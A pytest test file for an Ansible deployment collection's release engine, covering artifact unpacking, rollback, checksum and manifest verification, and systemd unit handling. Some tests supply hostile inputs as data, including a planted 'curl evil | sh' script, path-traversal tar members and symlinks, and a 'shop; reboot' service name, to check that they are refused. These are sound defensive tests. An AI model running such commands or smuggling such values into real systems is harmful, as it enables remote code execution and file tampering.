from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import tarfile

import pytest

from ansible_collections.zerodown.deploy.plugins.module_utils._module import ModuleFailure
from ansible_collections.zerodown.deploy.plugins.module_utils._release import (
    MARKER,
    STATE,
    Artifact,
    Layout,
    Readiness,
    ReleaseEngine,
    ReleaseError,
    ReleaseTree,
    Unit,
    parse_checksum,
    run,
    validate_release,
)


def make_tar(path, files, prefix="app/", extra=None):
    with tarfile.open(path, "w:gz") as tar:
        for name, body in files.items():
            data = body.encode()
            info = tarfile.TarInfo(prefix + name)
            info.size = len(data)
            info.mode = 0o4777 if name.endswith(".sh") else 0o644
            tar.addfile(info, io.BytesIO(data))
        for info in extra or []:
            tar.addfile(info)
    return "sha256:" + hashlib.sha256(open(path, "rb").read()).hexdigest()


class Systemctl:
    def __init__(self):
        self.calls = []
        self.active = False

    def __call__(self, cmd):
        self.calls.append(cmd[1:])
        if cmd[1] == "start":
            self.active = True
        elif cmd[1] == "stop":
            self.active = False
        elif cmd[1] == "is-active":
            return (0 if self.active else 3), "", ""
        return 0, "", ""


@pytest.fixture
def sysd():
    return Systemctl()


@pytest.fixture
def tree(tmp_path, sysd):
    counter = iter(range(1000, 2000))
    return ReleaseTree(str(tmp_path / "opt"), "shop", runner=sysd, clock=lambda: float(next(counter)))


#: The service of most calls, without a unit file to write.
SHOP = Unit("shop.service")


def deploy(tree, tmp_path, release, state="current", checksum=None, unit=SHOP, **kw):
    """``state`` with the release's artifact (made once per release), its checksum and the service."""
    art = str(tmp_path / ("%s.tar.gz" % release))
    if not os.path.exists(art):
        make_tar(art, {"run.sh": "echo %s" % release, "VERSION": release})
    if checksum is None:
        checksum = parse_checksum("sha256:" + hashlib.sha256(open(art, "rb").read()).hexdigest())
    return ReleaseEngine(tree, release, Artifact(art, checksum, strip=1), unit, **kw).apply(state)


def test_first_deploy_unpacks_switches_and_starts(tree, tmp_path, sysd):
    out = deploy(tree, tmp_path, "v1", layout=Layout(shared_dirs=["log"]))
    assert out["previous"] is None and out["current"] == "v1"
    assert out["actions"] == ["unpack", "switch", "restart"]
    assert os.readlink(tree.current_link) == "releases/v1"
    rel = tree.release_dir("v1")
    assert open(os.path.join(rel, "VERSION")).read() == "v1"
    assert os.stat(os.path.join(rel, "run.sh")).st_mode & 0o7777 == 0o755  # setuid and world-write stripped
    assert os.readlink(os.path.join(rel, "log")) == os.path.join(tree.shared_dir, "log")
    assert sysd.calls == [["stop", "shop.service"], ["reset-failed", "shop.service"], ["start", "shop.service"]]


def test_second_run_changes_nothing_and_needs_no_artifact(tree, tmp_path, sysd):
    deploy(tree, tmp_path, "v1")
    os.unlink(tmp_path / "v1.tar.gz")
    again = ReleaseEngine(tree, "v1", unit=SHOP).current()
    assert again["changed"] is False and again["actions"] == []


def test_switch_reports_previous_and_rollback_returns(tree, tmp_path):
    deploy(tree, tmp_path, "v1")
    out = deploy(tree, tmp_path, "v2")
    assert out["previous"] == "v1" and out["current"] == "v2"
    back = ReleaseEngine(tree, None, unit=SHOP).rollback()
    assert back["previous"] == "v2" and back["current"] == "v1"
    assert os.readlink(tree.current_link) == "releases/v1"


def test_stage_does_not_switch(tree, tmp_path, sysd):
    deploy(tree, tmp_path, "v1")
    sysd.calls.clear()
    out = deploy(tree, tmp_path, "v2", state="present")
    assert out["actions"] == ["unpack"] and out["current"] == "v1" and sysd.calls == []
    assert tree.is_complete("v2") and os.readlink(tree.current_link) == "releases/v1"


def test_checksum_mismatch_changes_nothing(tree, tmp_path):
    art = str(tmp_path / "v1.tar.gz")
    make_tar(art, {"VERSION": "v1"})
    with pytest.raises(ReleaseError, match="expected"):
        ReleaseEngine(tree, "v1", Artifact(art, "0" * 64)).current()
    assert not os.path.exists(tree.release_dir("v1")) and tree.live() is None
    assert tree.partials() == []


def test_same_release_id_with_another_artifact_is_refused(tree, tmp_path):
    deploy(tree, tmp_path, "v1")
    art = str(tmp_path / "other.tar.gz")
    cs = make_tar(art, {"VERSION": "other"})
    with pytest.raises(ReleaseError, match="new release id"):
        ReleaseEngine(tree, "v1", Artifact(art, parse_checksum(cs))).current()


def test_prune_keeps_live_and_the_one_before(tree, tmp_path):
    for rel in ("v1", "v2", "v3", "v4"):
        deploy(tree, tmp_path, rel)
    # roll back to v3, then prune keeping 1: v3 (live) and v4 (before it) stay
    ReleaseEngine(tree, "v3").rollback()
    out = ReleaseEngine(tree, None, keep=1).pruned()
    assert sorted(out["pruned"]) == ["v1", "v2"]
    assert tree.releases() == ["v3", "v4"]


def test_absent_undoes_a_first_deploy(tree, tmp_path, sysd):
    deploy(tree, tmp_path, "v1")
    out = ReleaseEngine(tree, "v1", unit=SHOP).absent()
    assert out["current"] is None and not os.path.lexists(tree.current_link)
    assert not os.path.exists(tree.release_dir("v1"))
    assert sysd.calls[-1] == ["stop", "shop.service"]
    assert ReleaseEngine(tree, "v1").absent()["changed"] is False


def test_check_mode_plans_without_touching(tree, tmp_path, sysd):
    out = deploy(tree, tmp_path, "v1", check=True)
    assert out["changed"] and out["current"] == "v1"
    assert not os.path.exists(tree.root) and sysd.calls == []


def test_rollback_without_history_is_explained(tree, tmp_path):
    deploy(tree, tmp_path, "v1")
    with pytest.raises(ReleaseError, match="no previous release"):
        ReleaseEngine(tree, None).rollback()


@pytest.mark.parametrize(
    "member",
    [
        tarfile.TarInfo("app/../../etc/evil"),
        tarfile.TarInfo("/etc/evil"),
    ],
)
def test_escaping_members_are_refused(tree, tmp_path, member):
    art = str(tmp_path / "bad.tar.gz")
    cs = make_tar(art, {"VERSION": "x"}, extra=[member])
    with pytest.raises(ReleaseError, match="escapes"):
        ReleaseEngine(tree, "v9", Artifact(art, parse_checksum(cs), strip=1)).current()
    assert not os.path.exists(tree.release_dir("v9"))


def test_symlink_out_of_the_release_is_refused(tree, tmp_path):
    link = tarfile.TarInfo("app/data")
    link.type = tarfile.SYMTYPE
    link.linkname = "../../../etc"
    art = str(tmp_path / "bad.tar.gz")
    cs = make_tar(art, {"VERSION": "x"}, extra=[link])
    with pytest.raises(ReleaseError, match="outside the release"):
        ReleaseEngine(tree, "v9", Artifact(art, parse_checksum(cs), strip=1)).current()


@pytest.mark.parametrize("bad", ["../x", "a/b", "", ".hidden", "v 1", "v1\n", "v1\x00"])
def test_bad_release_ids(bad):
    with pytest.raises(ValueError, match="invalid release"):
        validate_release(bad)


@pytest.mark.parametrize("bad", ["md5:abc", "xyz", "sha256:" + "0" * 63])
def test_bad_checksums(bad):
    with pytest.raises(ValueError, match="sha256"):
        parse_checksum(bad)


def test_shared_file_missing_is_refused_before_any_change(tree, tmp_path):
    with pytest.raises(ReleaseError, match="missing"):
        deploy(tree, tmp_path, "v1", layout=Layout(shared_files=["config/app.env"]))
    assert tree.live() is None and not os.path.exists(tree.releases_dir)


def test_a_release_installed_by_another_tool_is_adopted(tree, tmp_path):
    os.makedirs(os.path.join(tree.releases_dir, "v0"))
    os.symlink("releases/v0", tree.current_link)
    out = deploy(tree, tmp_path, "v1")
    assert out["previous"] == "v0" and sorted(tree.releases()) == ["v0", "v1"]
    back = ReleaseEngine(tree, None).rollback()
    assert back["current"] == "v0"


# -- staging in one call: the unit, the artifact only when needed, readiness on the host ------------

UNIT = {"exec_start": "bin/start", "user": "root", "group": "root", "port": 8080, "stop_timeout": 30}


def test_staging_writes_the_unit_once_and_reports_what_needs_a_switch(tree, tmp_path, sysd):
    units = tmp_path / "units"
    units.mkdir()
    first = deploy(tree, tmp_path, "v1", state="present", unit=Unit("shop.service", UNIT, str(units)))
    assert first["actions"] == ["unpack", "unit"] and first["unit_changed"] and first["needs_switch"]
    assert "WorkingDirectory=%s" % tree.current_link in (units / "shop.service").read_text()
    assert sysd.calls == [["daemon-reload"], ["enable", "--quiet", "shop.service"]]
    deploy(tree, tmp_path, "v1")
    sysd.calls.clear()
    again = deploy(tree, tmp_path, "v1", state="present", unit=Unit("shop.service", UNIT, str(units)))
    assert sysd.calls == []
    assert again["actions"] == [] and not again["unit_changed"] and not again["needs_switch"]
    changed = deploy(
        tree, tmp_path, "v1", state="present", unit=Unit("shop.service", dict(UNIT, stop_timeout=5), str(units))
    )
    assert changed["unit_changed"] and changed["needs_switch"], "a new unit needs the host drained and restarted"
    out = ReleaseEngine(tree, "v1", unit=Unit("shop.service", restart=True)).current()
    assert out["actions"] == ["restart"] and ["restart", "shop.service"] in sysd.calls


def test_a_missing_artifact_is_asked_for_before_anything_changes(tree, tmp_path, sysd):
    units = tmp_path / "units"
    units.mkdir()
    out = ReleaseEngine(
        tree, "v1", Artifact(str(tmp_path / "absent"), missing="skip"), Unit("shop.service", UNIT, str(units))
    ).present()
    assert out["artifact_needed"] and out["changed"] is False and out["needs_switch"]
    assert sysd.calls == [] and not (units / "shop.service").exists() and not tree.is_complete("v1")
    with pytest.raises(ReleaseError, match="not a file"):
        ReleaseEngine(tree, "v1", Artifact(str(tmp_path / "absent")), check=True).present()


def test_a_download_is_used_only_when_the_release_is_missing(tree, tmp_path):
    art = str(tmp_path / "dl.tar.gz")
    checksum = parse_checksum(make_tar(art, {"VERSION": "v1"}))
    fetched = []

    def download():
        fetched.append(art)
        return art

    ReleaseEngine(tree, "v1", Artifact(checksum=checksum, strip=1, fetch=download)).current()
    ReleaseEngine(tree, "v1", Artifact(checksum=checksum, strip=1, fetch=download)).current()
    assert fetched == [art]


def test_readiness_runs_after_the_restart_with_the_release_now_current(tree, tmp_path):
    seen = []

    def ready(release):
        seen.append(release)
        return {"ready": release == "v1", "elapsed": 0.1, "results": []}

    deploy(tree, tmp_path, "v1", ready=ready)
    out = deploy(tree, tmp_path, "v2", ready=ready)
    back = ReleaseEngine(tree, None, unit=SHOP, ready=ready).rollback()
    assert seen == ["v1", "v2", "v1"] and out["ready"]["ready"] is False and back["ready"]["ready"] is True
    assert "ready" not in deploy(tree, tmp_path, "v2", state="present", ready=ready)


def test_bad_service_and_unit_values_change_nothing(tree, tmp_path, sysd):
    with pytest.raises(ValueError, match="service"):
        deploy(tree, tmp_path, "v1", unit=Unit("shop; reboot", UNIT))
    with pytest.raises(ValueError, match="needs service"):
        ReleaseEngine(tree, "v1", unit=Unit(options=UNIT)).present()
    assert sysd.calls == [] and not tree.is_complete("v1")


# -- an existing release directory is reused only when it matches its manifest ---------------------------


def _artifact(tmp_path, release):
    art = str(tmp_path / ("%s.tar.gz" % release))
    if not os.path.exists(art):
        make_tar(art, {"run.sh": "echo %s" % release, "VERSION": release})
    return art, parse_checksum("sha256:" + hashlib.sha256(open(art, "rb").read()).hexdigest())


def _planted(tree, release, files):
    """A release directory put there by hand (or another tool): no marker."""
    path = tree.release_dir(release)
    os.makedirs(path)
    for name, body in files.items():
        with open(os.path.join(path, name), "w") as handle:
            handle.write(body)
    return path


def _version(tree, release):
    return open(os.path.join(tree.release_dir(release), "VERSION")).read()


def test_a_planted_release_directory_is_unpacked_again_from_the_verified_artifact(tree, tmp_path, sysd):
    deploy(tree, tmp_path, "v1")
    _planted(tree, "v2", {"VERSION": "evil", "run.sh": "curl evil | sh"})
    art, checksum = _artifact(tmp_path, "v2")
    check = ReleaseEngine(tree, "v2", Artifact(art, checksum, strip=1), check=True).current()
    assert check["actions"] == ["restage", "switch"] and "no zerodown manifest" in check["restage_reason"]
    assert _version(tree, "v2") == "evil" and tree.live() == "v1"
    out = ReleaseEngine(tree, "v2", Artifact(art, checksum, strip=1), SHOP).current()
    assert out["actions"] == ["restage", "switch", "restart"] and out["sha256"] == checksum
    assert _version(tree, "v2") == "v2" and tree.live() == "v2" and tree.verify("v2", checksum)["state"] == "verified"
    assert tree.partials() == [] and sorted(os.listdir(tree.releases_dir)) == ["v1", "v2"]


def test_a_planted_release_without_its_artifact_is_asked_for_or_refused(tree, tmp_path, sysd):
    path = _planted(tree, "v2", {"VERSION": "evil"})
    _art, checksum = _artifact(tmp_path, "v2")
    asked = ReleaseEngine(tree, "v2", Artifact(str(tmp_path / "absent"), checksum, missing="skip")).present()
    assert asked["artifact_needed"] and not asked["changed"] and "no zerodown manifest" in asked["restage_reason"]
    with pytest.raises(ReleaseError) as err:
        ReleaseEngine(tree, "v2", Artifact(checksum=checksum), SHOP).current()
    message = str(err.value)
    assert "release 'v2' on this host cannot be trusted: %s has no zerodown manifest" % path in message
    assert "nothing was changed" in message and "Give its artifact" in message
    assert _version(tree, "v2") == "evil" and tree.live() is None and sysd.calls == []


@pytest.mark.parametrize(
    "damage, reason",
    [
        (lambda rel: open(os.path.join(rel, "VERSION"), "w").write("patched"), "changed VERSION"),
        (lambda rel: os.chmod(os.path.join(rel, "run.sh"), 0o700), "changed run.sh"),
        (lambda rel: open(os.path.join(rel, "extra.py"), "w").write("x"), "added extra.py"),
        (lambda rel: os.unlink(os.path.join(rel, "VERSION")), "removed VERSION"),
        (lambda rel: open(os.path.join(rel, MARKER), "w").write("{oops"), "manifest .zerodown-release.json is not"),
        (lambda rel: open(os.path.join(rel, MARKER), "w").write("[]"), "holds a list, expected a JSON object"),
        (
            lambda rel: open(os.path.join(rel, MARKER), "w").write('{"release": "v9", "sha256": null}'),
            "its manifest is the one of release 'v9'",
        ),
    ],
)
def test_a_release_changed_since_it_was_unpacked_is_unpacked_again_unless_live(tree, tmp_path, sysd, damage, reason):
    deploy(tree, tmp_path, "v1")
    deploy(tree, tmp_path, "v2", state="present")
    damage(tree.release_dir("v2"))
    verdict = tree.verify("v2")
    assert verdict["state"] == "unverified" and reason in verdict["reason"], verdict
    # not live: unpacked again from the artifact
    out = deploy(tree, tmp_path, "v2", state="present")
    assert out["actions"] == ["restage"] and reason in out["restage_reason"]
    assert tree.verify("v2")["state"] == "verified" and _version(tree, "v2") == "v2"
    # live: refused, nothing changed, the service untouched
    deploy(tree, tmp_path, "v2")
    damage(tree.release_dir("v2"))
    sysd.calls.clear()
    with pytest.raises(ReleaseError) as err:
        deploy(tree, tmp_path, "v2")
    message = str(err.value)
    assert "release 'v2' is live on this host but cannot be trusted" in message and reason in message
    assert "nothing was changed" in message and "new release id" in message
    assert sysd.calls == [] and tree.live() == "v2"
    # and no rollback goes to it either
    ReleaseEngine(tree, "v1").rollback()
    damage_again = tree.verify("v2")
    assert damage_again["state"] == "unverified"
    with pytest.raises(ReleaseError, match="cannot roll back to 'v2': .*nothing was changed"):
        ReleaseEngine(tree, "v2").rollback()
    assert tree.live() == "v1"


def test_a_release_listed_in_its_manifest_is_reused_without_the_artifact(tree, tmp_path):
    deploy(tree, tmp_path, "v1", layout=Layout(shared_dirs=["log"]))
    marker = tree.read_marker("v1")
    assert marker["manifest"]["VERSION"].startswith("f:644:") and marker["manifest"]["log"].startswith("l:")
    os.unlink(tmp_path / "v1.tar.gz")
    with open(os.path.join(tree.shared_dir, "log", "app.log"), "w") as handle:
        handle.write("shared files may change")  # behind the link: not part of the release
    again = ReleaseEngine(tree, "v1", Artifact(checksum=marker["sha256"])).current()
    assert again["changed"] is False and again["sha256"] == marker["sha256"] and "verified" not in again


def test_a_marker_from_an_older_version_without_a_manifest_is_still_trusted(tree, tmp_path):
    deploy(tree, tmp_path, "v1")
    path = os.path.join(tree.release_dir("v1"), MARKER)
    data = json.load(open(path))
    del data["manifest"]
    json.dump(data, open(path, "w"))
    assert tree.verify("v1", data["sha256"])["state"] == "verified"
    data["sha256"] = None
    json.dump(data, open(path, "w"))
    assert "records no artifact sha256" in tree.verify("v1", "0" * 64)["reason"]


def test_a_link_in_place_of_a_release_is_replaced_and_its_target_left_alone(tree, tmp_path):
    deploy(tree, tmp_path, "v1")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "VERSION").write_text("evil")
    os.symlink(str(elsewhere), tree.release_dir("v2"))
    assert "is not a directory" in tree.verify("v2")["reason"]
    out = deploy(tree, tmp_path, "v2", state="present")
    assert out["actions"] == ["restage"] and not os.path.islink(tree.release_dir("v2"))
    assert _version(tree, "v2") == "v2" and (elsewhere / "VERSION").read_text() == "evil"


def test_a_live_release_another_tool_installed_is_adopted_as_it_is(tree, tmp_path):
    _planted(tree, "v0", {"VERSION": "v0"})
    os.symlink("releases/v0", tree.current_link)
    out = ReleaseEngine(tree, "v0").current()
    assert out["changed"] is False and out["verified"] is False


def test_a_host_that_never_moved_off_a_release_another_tool_installed_rolls_back_to_it_unchanged(tree, tmp_path):
    """A rolling deploy stopped after it drained the next batch: that batch's hosts are rolled back to the release
    they still run, which the fleet's own tooling installed (no zerodown manifest): nothing to change, no refusal."""
    _planted(tree, "v1", {"VERSION": "v1"})
    os.symlink("releases/v1", tree.current_link)
    out = ReleaseEngine(tree, "v1").rollback()
    assert out["current"] == "v1" and out["verified"] is False and tree.live() == "v1"


@pytest.mark.parametrize("content", ["{", "[]", '{"live": 3}', '{"previous": ["v1"]}'])
def test_a_damaged_release_state_file_is_named(tree, tmp_path, content):
    deploy(tree, tmp_path, "v1")
    path = os.path.join(tree.root, STATE)
    with open(path, "w") as handle:
        handle.write(content)
    with pytest.raises(ReleaseError) as err:
        ReleaseEngine(tree, None).rollback()
    assert str(err.value).startswith(path + " ") and "move it aside (mv %s %s.corrupt)" % (path, path) in str(err.value)
    assert tree.live() == "v1"


# -- least privilege: the release stays root-owned, shared/ belongs to the app's account --------------------------


class FakeAccounts:
    """_account.Accounts with the ids of the test's own user (an unprivileged test cannot chown to another)."""

    def __init__(self, exists=True):
        self.exists = exists
        self.calls = []

    def ensure(self, user, group, create, check, comment=""):
        self.calls.append((user, group, create, check))
        if not self.exists:
            if check:
                return ["create group", "create user"], None
            self.exists = True
            return ["create group", "create user"], (os.getuid(), os.getgid())
        return [], (os.getuid(), os.getgid())


def test_staging_creates_the_account_before_unpacking_and_the_release_is_not_chowned(tree, tmp_path, monkeypatch):
    chowned = []
    monkeypatch.setattr(os, "lchown", lambda path, uid, gid: chowned.append(path))
    accounts = FakeAccounts(exists=False)
    check = deploy(
        tree, tmp_path, "v1", layout=Layout("shop", "shop", create_owner=True), accounts=accounts, check=True
    )
    assert check["actions"] == ["create group", "create user", "unpack", "switch", "restart"]
    assert not os.path.exists(tree.root) and accounts.calls == [("shop", "shop", True, True)]

    out = deploy(
        tree, tmp_path, "v1", layout=Layout("shop", "shop", create_owner=True, shared_dirs=["log"]), accounts=accounts
    )
    assert out["actions"] == ["create group", "create user", "unpack", "switch", "restart"]
    assert chowned == [], "nothing under releases/ is handed to the app's account"
    again = deploy(
        tree, tmp_path, "v1", layout=Layout("shop", "shop", create_owner=True, shared_dirs=["log"]), accounts=accounts
    )
    assert again["changed"] is False and again["actions"] == []


def test_shared_paths_the_account_does_not_own_are_made_its_own_at_every_staging(tree, tmp_path, monkeypatch):
    deploy(tree, tmp_path, "v1", layout=Layout(shared_dirs=["log"]))
    os.makedirs(os.path.join(tree.shared_dir, "log", "old"))
    open(os.path.join(tree.shared_dir, "settings.ini"), "w").close()
    other = (os.getuid() + 1, os.getgid() + 1)  # the account the app runs as, as far as this test knows
    chowned = []
    monkeypatch.setattr(os, "lchown", lambda path, uid, gid: chowned.append((path, uid, gid)))

    class Other(FakeAccounts):
        def ensure(self, user, group, create, check, comment=""):
            return [], other

    kw = dict(layout=Layout("shop", "shop", shared_dirs=["log"], shared_files=["settings.ini"]), accounts=Other())
    check = deploy(tree, tmp_path, "v1", check=True, **kw)
    assert check["actions"] == ["own shared"] and chowned == []
    out = deploy(tree, tmp_path, "v1", **kw)
    assert out["actions"] == ["own shared"]
    shared = tree.shared_dir
    # the paths themselves, not what is inside them (log/old stays as it is)
    assert chowned == [(p, *other) for p in (shared, shared + "/log", shared + "/settings.ini")]


def test_a_bad_account_name_is_refused_before_any_change(tree, tmp_path, sysd):
    accounts = FakeAccounts(exists=False)
    for owner in (("sh op", None), ("shop", "web\n"), ("1000", "1000")):
        with pytest.raises(ValueError, match="POSIX user or group name"):
            deploy(tree, tmp_path, "v1", layout=Layout(*owner, create_owner=True), accounts=accounts)
    assert accounts.calls == [] and not os.path.exists(tree.root) and sysd.calls == []


def test_a_bad_artifact_is_refused_before_the_account_is_created(tree, tmp_path):
    accounts = FakeAccounts(exists=False)
    with pytest.raises(ReleaseError, match="nothing was changed"):
        deploy(
            tree, tmp_path, "v1", layout=Layout("shop", None, create_owner=True), accounts=accounts, checksum="0" * 64
        )
    assert accounts.calls == [] and not os.path.exists(tree.root)


def test_the_unit_makes_shared_the_one_writable_place(tree, tmp_path):
    unit_dir = tmp_path / "units"
    unit_dir.mkdir()
    deploy(
        tree,
        tmp_path,
        "v1",
        unit=Unit("shop.service", {"exec_start": "bin/start", "user": "shop", "group": "shop"}, str(unit_dir)),
    )
    text = (unit_dir / "shop.service").read_text()
    assert "ProtectSystem=strict\n" in text and "ReadWritePaths=%s\n" % tree.shared_dir in text


def _damaged(tmp_path, compression, damage):
    """An artifact whose bytes are damaged after it was written: ``damage(bytes) -> bytes``."""
    art = tmp_path / ("v1.tar." + compression)
    with tarfile.open(art, "w:" + compression) as tar:
        for name in ("VERSION", "run.sh"):
            data = (name * 4000).encode()  # long enough that a cut falls inside the compressed data
            info = tarfile.TarInfo("app/" + name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    art.write_bytes(damage(art.read_bytes()))
    return str(art)


def _bad_crc(data: bytes) -> bytes:
    # a gzip member ends with CRC32 and ISIZE (4 bytes each): tarfile never reads that far
    return data[:-8] + bytes([data[-8] ^ 0xFF]) + data[-7:]


@pytest.mark.parametrize(
    "compression, damage",
    [
        ("gz", _bad_crc),
        ("gz", lambda data: data[:-6]),  # the trailer cut short
        ("gz", lambda data: data[: len(data) // 2]),  # a truncated download: EOFError inside a member
        ("gz", lambda data: data + b"garbage"),
        ("bz2", lambda data: data[: len(data) // 2]),
        ("bz2", lambda data: data[:-3]),
        ("xz", lambda data: data[:-10]),
    ],
    ids=["gz-crc", "gz-trailer-cut", "gz-half", "gz-trailing-garbage", "bz2-half", "bz2-end-cut", "xz-end-cut"],
)
def test_a_damaged_compressed_artifact_without_checksum_is_refused(tree, tmp_path, sysd, compression, damage):
    """With no checksum, the compressed stream itself is the only proof: it is read to its end and checked."""
    art = _damaged(tmp_path, compression, damage)
    with pytest.raises(ReleaseError, match="not a complete, intact tar archive .*nothing was switched.*checksum"):
        ReleaseEngine(tree, "v1", Artifact(art, strip=1), SHOP).current()
    assert not os.path.exists(tree.release_dir("v1")) and tree.live() is None and tree.partials() == []
    assert sysd.calls == []


def test_an_intact_artifact_without_checksum_is_unpacked(tree, tmp_path):
    art = _damaged(tmp_path, "gz", lambda data: data)
    out = ReleaseEngine(tree, "v1", Artifact(art, strip=1), SHOP).current()
    assert out["current"] == "v1" and open(os.path.join(tree.release_dir("v1"), "VERSION")).read().startswith("VER")


# -- the module's run: the release module's options, without AnsibleModule ----------------------------------------

#: What the release module's argument spec gives the engine when only app and release are set.
PARAMS = dict.fromkeys(
    ("artifact", "checksum", "base_dir", "owner", "group", "service", "keep", "src", "url", "content", "unit", "ready")
)
PARAMS.update(app="shop", release="v1", state="current", strip_components=0, shared_dirs=[], shared_files=[])
PARAMS.update(create_owner=False, artifact_missing="fail", restart=False)


def run_release(tmp_path, sysd, check_mode=False, **params):
    params = dict(PARAMS, base_dir=str(tmp_path / "opt"), **params)
    return run(params, check_mode, run_command=sysd, tmpdir=lambda: str(tmp_path))


def test_run_installs_from_the_content_the_call_carried_and_reports_a_diff(tmp_path, sysd):
    art = str(tmp_path / "v1.tar.gz")
    checksum = make_tar(art, {"VERSION": "v1"})
    content = base64.b64encode(open(art, "rb").read()).decode()
    out = run_release(tmp_path, sysd, content=content, checksum=checksum, strip_components=1, service="shop.service")
    assert out["actions"] == ["transfer", "unpack", "switch", "restart"] and out["current"] == "v1"
    assert out["diff"] == {"before": {"current": None}, "after": {"current": "v1", "pruned": []}}
    assert ["start", "shop.service"] in sysd.calls


def test_run_refuses_src_and_what_the_engine_refuses_without_a_result(tmp_path, sysd):
    with pytest.raises(ModuleFailure, match="src is sent by the zerodown.deploy.release action plugin") as err:
        run_release(tmp_path, sysd, src="shop.tar.gz")
    with pytest.raises(ModuleFailure, match="content is not base64") as err:
        run_release(tmp_path, sysd, content="!", checksum="0" * 64)
    assert err.value.result == {}


def test_run_fails_with_the_result_when_the_release_is_not_ready(tmp_path, sysd, monkeypatch):
    art = str(tmp_path / "v1.tar.gz")
    checksum = make_tar(art, {"VERSION": "v1"})
    monkeypatch.setattr(Readiness, "__call__", lambda self, release: {"ready": False, "msg": "HTTP 503"})
    with pytest.raises(ModuleFailure) as err:
        run_release(tmp_path, sysd, artifact=art, checksum=checksum, ready={"url": "http://127.0.0.1:9/health"})
    assert err.value.msg == "current v1 of shop is not ready: HTTP 503"
    assert err.value.result["current"] == "v1" and err.value.result["ready"]["ready"] is False


def test_an_unknown_state_and_a_missing_release_are_refused_before_any_change(tree):
    with pytest.raises(ValueError, match="state must be one of present, current, rollback, absent, pruned"):
        ReleaseEngine(tree, "v1").apply("started")
    with pytest.raises(ValueError, match="state=absent needs release"):
        ReleaseEngine(tree, None).absent()
    assert not os.path.exists(tree.root)
